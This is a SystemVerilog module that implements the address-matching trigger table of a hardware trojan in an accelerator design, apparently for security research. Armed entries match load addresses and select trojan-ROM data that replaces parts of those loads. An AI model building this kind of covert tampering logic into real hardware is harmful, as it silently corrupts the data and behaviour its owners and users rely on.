// trojan_addr_match: the trojan's target table and address comparator.
//
// Holds NUM_TARGETS entries, each an armed bit, the shared-memory start
// address (ddr_addr) of a load instruction to act on, a 64-bit mask of the
// lines of that load to replace, and the first trojan-ROM line holding the
// replacements. The ddr_addr of the load that the memory reader is
// configuring is compared against every armed entry in parallel; the
// lowest-index match wins. All entries are disarmed by reset, so until the
// table is programmed nothing ever matches and the trojan stays dormant.
//
// Interface: prog_we/prog_idx/prog_entry write one entry (one cycle, takes
// effect the next cycle). lookup_addr -> hit, hit_mask, hit_rom_base is
// purely combinational so the memory reader's CFG state can act on it in the
// same cycle.
//
// Matching on the load's ddr_addr in the CFG state and storing the targets
// so that they can be re-programmed follows the design description. The
// table size, priority rule and write port are this design's own choices.
module trojan_addr_match
  import dpu_pkg::*;
#(
  parameter int unsigned NUM_TARGETS = 8,
  parameter int unsigned ROM_AW      = 7,
  localparam int unsigned IDX_W      = (NUM_TARGETS > 1) ? $clog2(NUM_TARGETS) : 1
) (
  input  logic                  clk,
  input  logic                  rst_n,
  // programming
  input  logic                  prog_we,
  input  logic [IDX_W-1:0]      prog_idx,
  input  trojan_target_t        prog_entry,
  // lookup
  input  ddr_addr_t             lookup_addr,
  output logic                  hit,
  output mask_t                 hit_mask,
  output logic [ROM_AW-1:0]     hit_rom_base
);

  trojan_target_t table_q [NUM_TARGETS];

  always_ff @(posedge clk) begin
    if (!rst_n) begin
      for (int i = 0; i < NUM_TARGETS; i++) table_q[i] <= '0;
    end else if (prog_we && int'(prog_idx) < NUM_TARGETS) begin
      table_q[prog_idx] <= prog_entry;
    end
  end

  always_comb begin
    hit          = 1'b0;
    hit_mask     = '0;
    hit_rom_base = '0;
    for (int i = NUM_TARGETS - 1; i >= 0; i--) begin
      if (table_q[i].armed && table_q[i].ddr_addr == lookup_addr) begin
        hit          = 1'b1;
        hit_mask     = table_q[i].mask;
        hit_rom_base = table_q[i].rom_base[ROM_AW-1:0];
      end
    end
  end

endmodule
